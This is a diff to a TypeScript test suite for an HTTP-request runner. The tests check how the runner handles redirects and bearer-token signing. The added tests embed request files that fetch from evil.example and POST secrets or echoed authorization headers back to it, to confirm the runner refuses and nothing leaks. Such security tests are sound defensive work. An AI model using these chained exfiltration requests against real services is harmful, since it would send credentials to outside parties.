@@ -176,7 +176,7 @@ describe('a redirect by a host of DT', () => {
     const ways: Readonly<Record<string, readonly [locations: readonly string[], signed: readonly boolean[]]>> = {
       'another path: signed again': [['/v2/other'], [true, true]],
       "DT's emulator: signed again": [[`https://emulator.d21s.com/v2/other`], [true, true]],
-      'another host, and from there back: signed by where it is': [['https://evil.example/1', `https://${api}/v2/other`], [true, true]],
+      'another host, and from there back: not signed by way of it': [['https://evil.example/1', `https://${api}/v2/other`], [true, false]],
       'another host, and from there to a third': [['https://evil.example/1', 'https://other.example/2'], [true]],
     };
     for (const [title, [locations, expected]] of Object.entries(ways)) {
@@ -196,6 +196,27 @@ describe('a redirect by a host of DT', () => {
         assertNoTrace(what, world.overheard, everySecret);
       });
     }
+
+    it('DT by a stranger: not signed, and what DT answers stays in confidence', async () => {
+      const given = secrets.given;
+      world.evil.answering = ({ target }) => (target === '/weather' ? answer(302, '', { Location: `https://${api}/v2/keys` }) : answer(200));
+      world.dt.answering = () => answer(200, JSON.stringify({ secret: given.value }));
+      const report = await victim.run('# @name weather\nGET https://evil.example/weather\n\n###\nPOST https://evil.example/report\n\n{{weather.response.body}}\n', { files });
+      const what = outcomeOf(report);
+      assert.equal(world.dt.heard.length, 1, what);
+      assertNoTrace(what, world.dt.octets, [secrets.token]);
+      assert.equal(report.kind === 'refused' && report.findings[0]?.finding.code, 'variable.guarded', what);
+      assertNoTrace(what, world.overheard, everySecret);
+    });
+
+    it('what it was signed with is not carried on by a host that repeats it', async () => {
+      world.evil.answering = ({ text }) => answer(200, JSON.stringify({ seen: /^authorization: (.*)\r$/im.exec(text)?.[1] ?? '' }));
+      const report = await victim.run('# @name echo\nGET https://gateway.example/echo\n\n###\nPOST https://evil.example/\n\n{{echo.response.body.$.seen}}\n', { files, allowed: ['https://gateway.example'] });
+      const what = outcomeOf(report);
+      assertTrace(what, world.evil.octets, [secrets.token]);
+      assert.equal(world.evil.heard.length, 1, what);
+      assert.equal(report.kind === 'refused' && report.findings[0]?.finding.code, 'variable.guarded', what);
+    });
 
     it('more than ten times: no further', async () => {
       world.dt.answering = ({ target }) => answer(302, '', { Location: `${target}/x` });
